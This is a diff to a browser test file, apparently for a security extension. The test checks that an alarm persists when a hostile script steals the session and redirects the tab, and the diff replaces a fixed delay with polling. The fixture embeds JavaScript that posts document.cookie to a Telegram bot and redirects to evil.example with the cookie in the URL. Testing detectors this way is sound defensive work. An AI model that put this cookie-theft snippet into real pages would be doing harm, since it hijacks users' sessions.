@@ -265,13 +265,19 @@ describeEachBrowser('lifecycle', (context) => {
   it('a helper that steals the session and takes the tab away to its own site: the alarm stays with the tab until it closes', async () => {
     const saq = await context.launch();
     const tag = 'steal-and-leave';
-    // The cookie to a Telegram bot, then the tab to the "helper's" site (after the test has found the tab).
+    // The cookie to a Telegram bot, then the tab to the "helper's" site once the test has found the tab. (A fixed
+    // 1.5 s was too short for the tab lookup of a loaded machine's Firefox: the tab had left before it was found.)
     const helper = `(() => {
       fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
-      setTimeout(() => { location.href = 'https://evil.example/thanks?c=' + encodeURIComponent(document.cookie); }, 1500);
+      const leave = setInterval(() => {
+        if (!window.__tabFound) return;
+        clearInterval(leave);
+        location.href = 'https://evil.example/thanks?c=' + encodeURIComponent(document.cookie);
+      }, 50);
     })();`;
     const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
     const visit = await open(saq, path);
+    await visit.page.evaluate(() => void ((window as unknown as { __tabFound?: boolean }).__tabFound = true));
     await eventually(
       async () => visit.page.url(),
       (url) => url.startsWith('https://evil.example/thanks'),
